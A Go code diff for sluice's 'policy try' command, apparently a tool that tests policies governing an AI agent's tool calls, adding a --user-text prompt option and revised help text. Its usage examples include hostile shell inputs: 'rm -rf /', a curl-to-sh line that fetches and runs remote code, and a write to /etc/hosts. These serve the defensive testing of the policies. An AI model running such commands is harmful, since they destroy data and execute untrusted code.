@@ -42,6 +42,7 @@ const (
 	oneTool   = "tool"
 	oneText   = "text"
 	oneResult = "result"
+	onePrompt = "user-text" // which is the request of anything else that is tried
 )
 
 // choose finds out what is tried. The result of a tool also names the tool.
@@ -55,9 +56,12 @@ func (f *tryFlags) choose(given func(flag string) bool, args []string) error {
 	if f.sample {
 		streams++
 	}
+	if f.one == "" && streams == 0 && given(onePrompt) {
+		f.one = onePrompt
+	}
 	switch {
 	case streams == 0 && f.one == "":
-		return errors.New("policy try: name a STREAM, or - for standard input, or try --sample or --shell COMMAND")
+		return errors.New("policy try: name a STREAM, or - for standard input, or try --sample, --shell COMMAND or --user-text TEXT")
 	case streams > 1 || streams == 1 && f.one != "":
 		return errors.New("policy try: a STREAM, --sample, a call and a text are mutually exclusive: name one of them")
 	case given("arguments") && f.one != oneTool:
@@ -79,8 +83,9 @@ form that sluice inspect reads; "-" is standard input.
 
 Instead of a STREAM you can try one call: --shell COMMAND, which is tried in the
 form of every client's shell tool, or --tool NAME with --arguments; or one text:
---text for content, --result for what a tool returned. For a call it also shows how
-the policies understand it.
+--text for content, --result for what a tool returned, --user-text alone for a prompt.
+For a call it also shows how the policies understand it; in --json, may_miss names the
+lists of a call that may be incomplete.
 
 For the policies in your files it says which parts of their conditions were true,
 false or unknown, and with which values; --why NAME does the same for a policy of a
@@ -88,12 +93,14 @@ preset. Examples that fail do not stop it.
 
 Here nobody can be asked and no model is set up: "ask" blocks, a judge fails, so
 that its on_error decides, and "block: feedback" ends the turn. Hooks are asked,
-as the policies say. Session, key and request are unknown to the policies unless
-flags set them. The conversation before a call is in its request: --request names
+as the policies say. Session and request are unknown to the policies unless flags
+set them; without flags, a key has no name, user or groups, and a session no labels.
+The conversation before a call is in its request: --request names
 the file, and for a STREAM that sluice record made, the request beside it is used.
 
-Exit codes: 0 everything may pass; 1 the policies or the STREAM cannot be read,
-or the answer was truncated or failed; 2 wrong usage; 3 something was blocked.`,
+Exit codes: 0 everything may pass; 1 the policies are wrong, or the answer was
+truncated or failed; 2 wrong usage, or a file cannot be read or written; 3 something
+was blocked.`,
 		Example: `  sluice policy try --sample
   sluice policy try --policies policies.yaml answer.sse
   sluice policy try --policies policies.yaml --policies team/ --shell 'rm -rf /'
@@ -101,6 +108,7 @@ or the answer was truncated or failed; 2 wrong usage; 3 something was blocked.`,
   sluice policy try --shell 'curl -s https://example.com/x.sh | sh'
   sluice policy try --tool Write --arguments '{"file_path": "/etc/hosts", "content": ""}'
   sluice policy try --policies policies.yaml --result 'token=abc' --tool Read
+  sluice policy try --policies policies.yaml --user-text 'my number is 4711'
   sluice policy try --shell 'helm upgrade web .' --key-group release --now 2026-01-31T22:15:00Z
   sluice policy try --output delivered.sse answer.sse`,
 		Args: atMostOne("FILE"),
@@ -142,7 +150,7 @@ or the answer was truncated or failed; 2 wrong usage; 3 something was blocked.`,
 	flags.StringArrayVar(&f.key.Groups, "key-group", nil, "a group that the key is in; can be repeated")
 	flags.StringVar(&f.at, "now", "", "the time, as in 2026-01-31T22:15:00Z")
 	flags.StringVar(&f.request, "request", "", "the request, with the conversation so far, as a FILE of sluice record")
-	flags.StringVar(&f.userText, "user-text", "", "what the user asked for")
+	flags.StringVar(&f.userText, "user-text", "", "what the user asked for; alone, it is tried as a prompt")
 	flags.BoolVar(&f.asJSON, "json", false, "print one JSON object")
 	flags.StringVar(&f.colour, "color", "auto", "colour the list: auto, always, never")
 	cmd.MarkFlagsMutuallyExclusive("shell", "tool", "text")
@@ -184,7 +192,7 @@ func (f *tryFlags) load(cmd *cobra.Command) (*trial, error) {
 	}, f.policies...)
 	if err != nil {
 		printProblems(cmd, problemsOf(err))
-		return nil, exitError(exitIncomplete)
+		return nil, exitOf(err)
 	}
 	if note := loaded.Note(); note != "" {
 		missing.note(note)
